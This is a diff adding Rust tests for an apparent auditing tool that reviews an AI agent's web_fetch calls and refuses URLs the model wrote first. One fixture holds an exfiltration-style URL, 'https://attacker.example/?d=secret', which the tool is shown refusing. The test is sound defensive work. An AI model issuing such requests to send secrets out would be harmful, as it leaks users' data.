@@ -1,0 +1,154 @@
+use super::*;
+use crate::answers::{First, Verdict};
+use crate::engine::{Read, ToolSeen};
+
+fn call(item: usize, verdict: Verdict, url: &str, first: Option<(&str, &str, usize)>) -> TraceLine {
+    let reason = (verdict != Verdict::Open).then(|| "model_wrote_first".to_owned());
+    let first = first.map(|(writer, position, item)| First {
+        writer: writer.to_owned(),
+        position: position.to_owned(),
+        item,
+        at: format!("line {item}"),
+        tool: None,
+        from: "own".to_owned(),
+    });
+    TraceLine {
+        kind: "open",
+        file: "run.jsonl".to_owned(),
+        conversation: "c1".to_owned(),
+        run: "c1".to_owned(),
+        item,
+        at: format!("line {}", item + 1),
+        call: None,
+        server: None,
+        tool: "web_fetch".to_owned(),
+        dialect: "firsthand".to_owned(),
+        verdict,
+        reason: reason.clone(),
+        advisory: false,
+        incomplete_view: false,
+        earlier_unread: false,
+        bits: None,
+        urls: vec![UrlVerdict {
+            url: url.to_owned(),
+            verdict,
+            reason,
+            send: None,
+            step: None,
+            first,
+        }],
+    }
+}
+
+fn plain_text(text: &str) -> String {
+    anstream::adapter::strip_str(text).to_string()
+}
+
+#[test]
+fn a_conversation_is_a_table_and_the_summary_says_what_stayed_closed_and_why() {
+    let calls = [
+        call(3, Verdict::Open, "https://docs.example/guide?page=2", Some(("person", "user", 0))),
+        call(
+            9,
+            Verdict::Refuse,
+            "https://attacker.example/?d=secret",
+            Some(("model", "assistant", 7)),
+        ),
+        call(11, Verdict::Refuse, "https://nobody.example/", None),
+    ];
+    let (mut tables, mut tally) = (Tables::default(), Tally::default());
+    for line in &calls {
+        tally.call(line);
+        tables.call(line);
+    }
+    tally.file(&Read {
+        file: "run.jsonl".to_owned(),
+        format: "firsthand".to_owned(),
+        conversations: 1,
+    });
+    tally.tools([ToolSeen {
+        server: None,
+        tool: "web_fetch".to_owned(),
+        class: "world".to_owned(),
+    }]);
+    let text = tables.render(None) + &summary(&tally, None);
+    let wanted = "\
+run.jsonl  firsthand, conversation c1
+  item  tool       verdict  reason             first written by               address
+     3  web_fetch  open                        a person (user, item 0)        https://docs.example/guide?…
+     9  web_fetch  refuse   model_wrote_first  the model (assistant, item 7)  https://attacker.example/?…
+    11  web_fetch  refuse   model_wrote_first  nobody                         https://nobody.example/
+
+3 calls that open: 1 open, 2 refused, in 1 conversation of 1 file.
+
+Not opened
+  refuse  web_fetch in run.jsonl line 10, item 9
+          https://attacker.example/?…: first written by the model (assistant, item 7)
+  refuse  web_fetch in run.jsonl line 12, item 11
+          https://nobody.example/: written by nobody else
+
+Why they stayed closed
+  calls  reason             because
+      2  model_wrote_first  the model wrote it before anybody else did
+
+Whose words the results of each tool are
+  tool       results
+  web_fetch  world
+`firsthand policy --suggest FILE` writes a policy to correct them
+";
+    assert_eq!(plain_text(&text), wanted);
+}
+
+#[test]
+fn the_keys_of_a_line_stand_in_the_documented_order() {
+    let line = call(3, Verdict::Ask, "https://a.example/", Some(("world", "tool_result", 2)));
+    let json =
+        String::from_utf8(crate::out::json_line(&line).unwrap_or_default()).unwrap_or_default();
+    let wanted = concat!(
+        r#"{"type":"open","file":"run.jsonl","conversation":"c1","run":"c1","item":3,"at":"line 4","call":null,"#,
+        r#""server":null,"tool":"web_fetch","dialect":"firsthand","verdict":"ask","reason":"model_wrote_first","#,
+        r#""advisory":false,"incomplete_view":false,"earlier_unread":false,"bits":null,"urls":[{"#,
+        r#""url":"https://a.example/","verdict":"ask","reason":"model_wrote_first","send":null,"step":null,"#,
+        r#""first":{"writer":"world","position":"tool_result","item":2,"at":"line 2","tool":null,"from":"own"}}]}"#,
+        "\n"
+    );
+    assert_eq!(json, wanted);
+}
+
+#[test]
+fn counts_of_parts_add_up() {
+    let (mut whole, mut part) = (Tally::of_walk(2, 1), Tally::default());
+    part.call(&call(1, Verdict::Refuse, "https://a.example/", None));
+    part.call(&TraceLine {
+        advisory: true,
+        ..call(2, Verdict::Refuse, "https://a.example/", None)
+    });
+    part.unread();
+    part.skipped();
+    whole.add(part);
+    let summary = whole.summary();
+    assert_eq!((summary.files, summary.skipped, summary.unread), (5, 3, 2));
+    assert_eq!((summary.calls, summary.refuse, summary.advisory), (2, 2, 1));
+    assert_eq!(summary.by_reason.get("model_wrote_first"), Some(&2));
+}
+
+#[test]
+fn the_calls_of_a_subagent_stand_in_a_table_of_their_own() {
+    let mut tables = Tables::default();
+    let of = |item, run: &str| TraceLine {
+        run: run.to_owned(),
+        ..call(item, Verdict::Open, "https://a.example/", None)
+    };
+    for line in [of(1, "c1"), of(4, "agent"), of(7, "c1")] {
+        tables.call(&line);
+    }
+    let text = plain_text(&tables.render(None));
+    let headings: Vec<&str> = text.lines().filter(|line| line.starts_with("run.jsonl")).collect();
+    assert_eq!(
+        headings,
+        [
+            "run.jsonl  firsthand, conversation c1",
+            "run.jsonl  firsthand, conversation c1, run agent"
+        ]
+    );
+}
